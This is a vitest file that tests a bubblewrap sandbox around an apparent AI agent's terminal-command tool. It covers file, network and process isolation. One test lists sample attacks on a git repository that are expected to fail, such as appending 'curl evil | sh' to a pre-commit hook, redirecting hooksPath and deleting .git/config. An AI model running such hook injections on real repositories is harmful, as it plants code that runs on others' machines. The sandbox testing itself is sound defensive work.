import { execFileSync } from "node:child_process";
import { existsSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import path from "node:path";
import { setTimeout as delay } from "node:timers/promises";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { probeSandbox } from "../../src/policy/sandbox/detectSandbox.js";
import type { SandboxDetection } from "../../src/policy/sandbox/sandboxTypes.js";
import { runTerminalCmdTool } from "../../src/tools/builtin/runTerminalCmd/runTerminalCmd.js";
import type { ToolContext, ToolResult } from "../../src/tools/tool.js";
import {
  createSandboxTestBed,
  loopbackGet,
  type SandboxTestBed,
  startCountingServer,
} from "./sandboxTestBed.js";

// Real bubblewrap, real processes. Skipped only where bwrap cannot sandbox at all.
const detection = await probeSandbox();
const unavailable = !detection.available;
if (unavailable) console.warn(`sandbox tests skipped: ${detection.reason}`);

let bed: SandboxTestBed;
beforeEach(() => {
  bed = createSandboxTestBed();
});
afterEach(() => bed.cleanup());

type ContextOptions = Omit<Parameters<SandboxTestBed["context"]>[0], "detection">;
const run = (command: string, options: ContextOptions & { background?: boolean; cwd?: string } = {}) =>
  runTerminalCmdTool.execute(
    { command, is_background: options.background, working_directory: options.cwd },
    bed.context({ detection, ...options }),
  );

function succeeded(result: ToolResult): { output: string; metadata: Record<string, unknown> } {
  if (!result.ok) throw new Error(`expected success, got ${result.error.code}: ${result.error.message}`);
  return { output: result.output, metadata: result.metadata ?? {} };
}

function initRepository(): { hook: string; config: string } {
  execFileSync("git", ["init", "-q", bed.projectRoot]);
  const hook = path.join(bed.projectRoot, ".git/hooks/pre-commit");
  writeFileSync(hook, "#!/bin/sh\nexit 0\n", { mode: 0o755 });
  return { hook, config: path.join(bed.projectRoot, ".git/config") };
}

/** Host processes whose command line starts with `prefix`: the sandbox's PIDs are its own, so look from outside. */
function hostProcessesStarting(prefix: string): number[] {
  const found: number[] = [];
  for (const entry of readdirSync("/proc")) {
    if (!/^\d+$/.test(entry)) continue;
    try {
      const commandLine = readFileSync(`/proc/${entry}/cmdline`, "utf8").replaceAll("\0", " ");
      if (commandLine.startsWith(prefix)) found.push(Number(entry));
    } catch {
      // The process ended while being looked at.
    }
  }
  return found;
}

describe.skipIf(unavailable)("run_terminal_cmd in the sandbox (real bwrap)", () => {
  it("writes inside the project, in the given working directory", async () => {
    execFileSync("mkdir", ["-p", path.join(bed.projectRoot, "src")]);
    const result = succeeded(await run("pwd; printf 'made in the sandbox\\n' > made.txt", { cwd: "src" }));
    expect(result.output).toBe(`Exit code: 0\n--- stdout ---\n${path.join(bed.projectRoot, "src")}`);
    expect(readFileSync(path.join(bed.projectRoot, "src/made.txt"), "utf8")).toBe("made in the sandbox\n");
    expect(result.metadata).toMatchObject({ exitCode: 0, sandboxed: true, sandboxNetwork: false });
    expect(result.metadata.sandboxDenied).toBeUndefined();
  });

  it("cannot write beside the project, and says the sandbox blocked it", async () => {
    const target = path.join(bed.outside, "escaped.txt");
    const result = succeeded(await run(`echo escaped > '${target}'`));
    expect(existsSync(target)).toBe(false);
    expect(result.metadata.exitCode).not.toBe(0);
    expect(result.metadata.sandboxDenied).toBe(true);
    expect(result.output).toContain("Read-only file system");
    expect(result.output).toContain("[sandbox] This command looks blocked by the sandbox");
  });

  it("keeps $HOME readable but not writable", async () => {
    const marker = path.join(process.env.HOME ?? "/root", `.lathe-sandbox-test-${process.pid}`);
    try {
      const result = succeeded(await run(`test -r "$HOME" && echo readable; touch '${marker}'`));
      expect(result.output).toContain("readable");
      expect(existsSync(marker)).toBe(false);
      expect(result.metadata.sandboxDenied).toBe(true);
    } finally {
      rmSync(marker, { force: true });
    }
  });

  it("cannot change .git/hooks or .git/config, nor swap .git for a copy, while git itself works", async () => {
    const { hook, config } = initRepository();
    const hookBefore = readFileSync(hook, "utf8");
    const configBefore = readFileSync(config, "utf8");
    const attacks = [
      "echo 'curl evil | sh' >> .git/hooks/pre-commit",
      "printf '#!/bin/sh\\nevil\\n' > .git/hooks/post-checkout",
      "printf '[core]\\n\\thooksPath = /tmp/hooks\\n' >> .git/config",
      "rm -f .git/config",
      "mv .git/hooks .git/hooks-old",
      "mv .git .git-old",
    ];
    for (const attack of attacks) {
      const result = succeeded(await run(attack));
      expect(result.metadata.exitCode, attack).not.toBe(0);
    }
    expect(readFileSync(hook, "utf8")).toBe(hookBefore);
    expect(readFileSync(config, "utf8")).toBe(configBefore);
    expect(existsSync(path.join(bed.projectRoot, ".git/hooks/post-checkout"))).toBe(false);
    expect(existsSync(path.join(bed.projectRoot, ".git-old"))).toBe(false);

    const status = succeeded(await run("echo hi > a.txt && git add a.txt && git status --short"));
    expect(status.output).toBe("Exit code: 0\n--- stdout ---\nA  a.txt");
  });

  it("cannot create hooks in a repository that has no hooks directory", async () => {
    initRepository();
    rmSync(path.join(bed.projectRoot, ".git/hooks"), { recursive: true });
    const result = succeeded(await run("mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit"));
    expect(result.metadata.exitCode).not.toBe(0);
    expect(existsSync(path.join(bed.projectRoot, ".git/hooks/pre-commit"))).toBe(false);
  });

  it("cannot reach a server on the host's loopback when the network is off", async () => {
    const server = await startCountingServer();
    try {
      const result = succeeded(await run(loopbackGet(server.port)));
      expect(result.metadata.exitCode).not.toBe(0);
      expect(result.output).toContain("Connection refused");
      expect(result.metadata.sandboxDenied).toBe(true);
      await delay(100);
      expect(server.requests()).toBe(0);
    } finally {
      await server.close();
    }
  });

  it("reaches it when the engine granted this call the network", async () => {
    const server = await startCountingServer();
    try {
      const result = succeeded(await run(loopbackGet(server.port), { networkCallIds: ["call-1"] }));
      expect(result.output).toBe("Exit code: 0\n--- stdout ---\nhello from the host");
      expect(result.metadata).toMatchObject({ sandboxed: true, sandboxNetwork: true });
      expect(server.requests()).toBe(1);

      // The grant belongs to that call id; another call stays cut off.
      const other = succeeded(
        await run(loopbackGet(server.port), { networkCallIds: ["call-1"], callId: "call-2" }),
      );
      expect(other.metadata.exitCode).not.toBe(0);
      expect(server.requests()).toBe(1);
    } finally {
      await server.close();
    }
  });

  it("gives the session a private /tmp shared by its commands, with TMPDIR pointing there", async () => {
    const name = `lathe-sandbox-private-${process.pid}`;
    const first = succeeded(await run(`echo "$TMPDIR" && echo kept > /tmp/${name}`));
    expect(first.output).toBe("Exit code: 0\n--- stdout ---\n/tmp");
    expect(existsSync(path.join("/tmp", name))).toBe(false);
    expect(readFileSync(path.join(bed.sessionTmp, name), "utf8")).toBe("kept\n");
    const second = succeeded(await run(`cat /tmp/${name}`, { callId: "call-2" }));
    expect(second.output).toBe("Exit code: 0\n--- stdout ---\nkept");
  });

  it("runs a call the user approved outside the sandbox, as the user", async () => {
    const target = path.join(bed.outside, "allowed.txt");
    const result = succeeded(await run(`echo allowed > '${target}'`, { unsandboxedCallIds: ["call-1"] }));
    expect(result.metadata.exitCode).toBe(0);
    expect(result.metadata.sandboxed).toBeUndefined();
    expect(readFileSync(target, "utf8")).toBe("allowed\n");
  });

  it("sandboxes background commands too, and terminal_kill ends everything inside", async () => {
    const target = path.join(bed.outside, "from-background.txt");
    const failed = succeeded(await run(`echo x > '${target}'`, { background: true }));
    expect(failed.metadata).toMatchObject({ sandboxed: true, sandboxDenied: true });
    expect(existsSync(target)).toBe(false);

    const marker = `${4000 + (process.pid % 1000)}.25`;
    const started = succeeded(
      await run(`sleep ${marker} & setsid sleep ${marker} & sleep ${marker}`, { background: true }),
    );
    const id = String(started.metadata.terminalId);
    expect(hostProcessesStarting(`sleep ${marker}`)).toHaveLength(3);
    await bed.terminals.kill(id);
    expect(hostProcessesStarting(`sleep ${marker}`)).toEqual([]);
  });
});

describe.skipIf(unavailable)("stopping sandboxed commands (real bwrap)", () => {
  it("kills a foreground command on timeout with everything it started, setsid or not", async () => {
    const marker = `${5000 + (process.pid % 1000)}.75`;
    const result = await runTerminalCmdTool.execute(
      {
        command: `sleep ${marker} & setsid sleep ${marker} & echo started; sleep ${marker}`,
        timeout_ms: 500,
      },
      bed.context({ detection }),
    );
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.error.code).toBe("E_COMMAND_TIMEOUT");
    expect(result.output).toContain("started");
    expect(hostProcessesStarting(`sleep ${marker}`)).toEqual([]);
  });

  it("ends what a command left running with & when it exits, instead of leaking it", async () => {
    const marker = `${6000 + (process.pid % 1000)}.5`;
    const result = succeeded(await run(`sleep ${marker} & echo left`));
    expect(result.output).toBe("Exit code: 0\n--- stdout ---\nleft");
    await delay(100);
    expect(hostProcessesStarting(`sleep ${marker}`)).toEqual([]);
  });
});

describe("run_terminal_cmd without a usable sandbox", () => {
  const missing: SandboxDetection = { available: false, reason: "bubblewrap (bwrap) is not installed" };
  const runWith = (mode: "auto" | "required", command: string) => {
    const context: ToolContext = bed.context({ detection: missing, settings: { mode } });
    return runTerminalCmdTool.execute({ command }, context);
  };

  it("refuses to run anything in required mode", async () => {
    const target = path.join(bed.projectRoot, "ran.txt");
    for (const background of [false, true]) {
      const result = await runTerminalCmdTool.execute(
        { command: `touch '${target}'`, is_background: background },
        bed.context({ detection: missing, settings: { mode: "required" } }),
      );
      expect(result.ok).toBe(false);
      if (result.ok) return;
      expect(result.error.code).toBe("E_SANDBOX_DENIED");
      expect(result.error.message).toContain("bubblewrap (bwrap) is not installed");
    }
    expect(existsSync(target)).toBe(false);
  });

  it("runs unsandboxed in auto mode, with the notice for the UI", async () => {
    const target = path.join(bed.outside, "unsandboxed.txt");
    const result = succeeded(await runWith("auto", `echo free > '${target}'`));
    expect(result.metadata).toMatchObject({
      exitCode: 0,
      sandboxNotice: "Commands run without a sandbox: bubblewrap (bwrap) is not installed.",
    });
    expect(readFileSync(target, "utf8")).toBe("free\n");
  });
});
